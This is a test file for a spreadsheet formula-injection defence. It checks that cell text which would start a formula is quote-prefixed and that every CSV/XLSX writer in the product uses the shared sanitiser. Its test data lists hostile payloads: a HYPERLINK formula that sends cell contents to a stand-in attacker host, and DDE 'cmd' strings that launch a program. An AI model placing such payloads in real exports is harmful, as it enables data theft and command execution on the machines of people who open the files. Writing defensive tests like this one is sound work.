"""Spreadsheet formula injection: text that a spreadsheet would run is neutralised in one place
(:mod:`fieldcollect.core.cells`), used by every CSV and XLSX writer of the product."""

from __future__ import annotations

import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from fieldcollect.core.cells import safe_cell, safe_csv_writer, safe_row

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_numbers_dates_and_plain_text_are_left_alone() -> None:
    row = [-5, Decimal("-12.50"), -0.5, 0, date(2026, 1, 1), None, True, "客户1", "a=b", " =x", "-", "", "'=x"]
    assert safe_row(row) == row
    assert isinstance(safe_row([Decimal("-1")])[0], Decimal)  # a negative amount stays a number
    assert safe_cell("-5") == "'-5"  # text is text: a writer that means a number passes a number
    assert safe_cell(safe_cell("=1")) == "'=1"  # applying it twice changes nothing more


def test_safe_csv_writer_neutralises_every_row() -> None:
    buf = io.StringIO()
    w = safe_csv_writer(buf, lineterminator="\n")
    w.writerow(["=1+1", -3, "ok"])
    w.writerows([["@x", Decimal("-1.25")], ["\r=1+1", "a\rb"]])
    # a carriage return inside a cell is quoted: it cannot end the row and start one with "=1+1"
    assert buf.getvalue() == "'=1+1,-3,ok\r\n'@x,-1.25\r\n\"'\r=1+1\",\"a\rb\"\r\n"


def test_every_csv_and_xlsx_writer_of_the_product_uses_the_one_rule() -> None:
    """A new ``csv.writer`` / ``DictWriter`` / openpyxl ``Workbook`` in the product must go through
    :mod:`fieldcollect.core.cells` (Polars ``write_csv`` of machine data files is not a spreadsheet
    for people: demo portfolios, scoring output and allocation files keep their values)."""
    root = Path(__file__).resolve().parents[2]
    writer = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")
    found = []
    for path in sorted(root.rglob("*.py")):
        if "tests" in path.parts or path.name == "cells.py":
            continue
        text = path.read_text(encoding="utf-8")
        if writer.search(text):
            found.append(path.relative_to(root).as_posix())
            assert "fieldcollect.core.cells import" in text, f"{path} writes CSV/XLSX without core.cells"
    assert "privacy/exports.py" in found
    for module in ("settlement/exports.py", "compliance/audit.py"):  # their writers are safe_csv_writer
        text = (root / module).read_text(encoding="utf-8")
        assert "safe_csv_writer(" in text and "csv.writer(" not in text
